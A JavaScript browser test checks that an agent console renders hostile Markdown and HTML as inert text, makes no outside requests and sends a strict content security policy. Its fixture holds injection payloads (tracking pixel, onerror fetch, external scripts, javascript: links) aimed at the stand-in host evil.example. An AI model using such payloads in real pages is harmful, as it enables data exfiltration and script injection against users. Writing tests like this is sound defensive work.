// Check 10: no page asks another server for anything, also when an agent says hostile Markdown, and the policy has nothing
// to report.
import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { launch, watch } from './support/browser.mjs';
import { installation } from './support/installation.mjs';
import { over, send, signIn, soon } from './support/pages.mjs';

const EVIL = 'evil.example';
const HOSTILE = `
![pixel](https://${EVIL}/p.png?leak=1) [click](javascript:alert(1)) [data](data:text/html,<script>alert(1)</script>)

<img src="https://${EVIL}/i.png" onerror="fetch('https://${EVIL}/x')"><script src="https://${EVIL}/s.js"></script>
<link rel="prefetch" href="https://${EVIL}/l"><style>@import url(https://${EVIL}/c.css); body{background:url(https://${EVIL}/b)}</style>
<svg><image href="https://${EVIL}/v.svg"/><use href="https://${EVIL}/u.svg#a"/></svg><iframe src="https://${EVIL}/f"></iframe>
<meta http-equiv="refresh" content="0;url=https://${EVIL}/r"><base href="https://${EVIL}/">

[ref]: https://${EVIL}/ref
![by ref][ref] <https://${EVIL}/auto> https://${EVIL}/bare [ok](https://${EVIL}/link "title")

\`\`\`html
<img src=https://${EVIL}/code.png>
\`\`\`

| a | b |
|---|---|
| ![](https://${EVIL}/cell.png) | <b onmouseover=alert(1)>x</b> |
`;

let it, browser;
before(async () => {
  it = await installation({ documents: { hostile: HOSTILE } });
  browser = await launch();
});
after(async () => {
  await browser?.close();
  await it?.end();
});

test('nothing leaves, on any page', async () => {
  const context = await browser.newContext();
  const { outside, breaches } = await watch(context, it.url);
  const page = await context.newPage();
  const errors = [];
  page.on('pageerror', (e) => errors.push(e.message));
  let dialogs = 0;
  page.on('dialog', (d) => (dialogs++, d.dismiss()));
  await signIn(page, it.url, it.key, '/chat');
  await send(page, '[[doc hostile]]');
  const [turn] = await over(page, 1);
  assert.match(turn.words, /<script src=/, 'HTML is shown as the text that it is');
  await soon(async () => assert.ok(await page.getByText(EVIL).first().isVisible()));
  const made = await page.locator('.prose').evaluateAll((all) => all.flatMap((p) => [...p.querySelectorAll('img, script, iframe, style, link, object, embed, meta, base, svg image, svg use, [onerror], [onmouseover]')].map((e) => e.outerHTML)));
  assert.deepEqual(made, [], 'no element was made of it');
  const links = await page.locator('.prose a').evaluateAll((all) => all.map((a) => [a.protocol, a.rel, a.target]));
  assert.ok(links.length > 0);
  for (const [protocol, rel, target] of links) {
    assert.equal(protocol, 'https:');
    assert.equal(rel, 'noopener noreferrer nofollow');
    assert.equal(target, '_blank');
  }
  for (const path of ['/', '/dispatches', `/dispatches/${turn.id}`, `/dispatches/${turn.id}?tab=conversation`, `/dispatches/${turn.id}?tab=files`, `/dispatches/${turn.id}?tab=authority`, `/dispatches/${turn.id}?tab=raw`, '/audit', '/audit/3', '/grants', '/grants/new', '/runners', '/health', '/docs', '/docs/unit.v1', '/docs/api', '/nowhere']) {
    await page.goto(it.url + path);
    await page.locator('main h1').first().waitFor();
    await page.locator('[data-link=live]').waitFor();
  }
  await page.keyboard.press('Control+k');
  await page.getByRole('combobox', { name: /Search/ }).waitFor();
  assert.deepEqual(outside, []);
  assert.deepEqual(breaches, []);
  assert.deepEqual(errors, []);
  assert.equal(dialogs, 0);
});

test('the policy of the server forbids what the page does not do', async () => {
  for (const path of ['/', '/chat/s-1', '/assets/none.js', '/api/v1/me']) {
    const answer = await fetch(it.url + path);
    const policy = answer.headers.get('content-security-policy') ?? '';
    assert.match(policy, /^default-src 'none'/, path);
    assert.match(policy, /require-trusted-types-for 'script'/, path);
    assert.doesNotMatch(policy, /unsafe|\*/, path);
    assert.equal(answer.headers.get('x-content-type-options'), 'nosniff', path);
    assert.equal(answer.headers.get('referrer-policy'), 'no-referrer', path);
  }
});
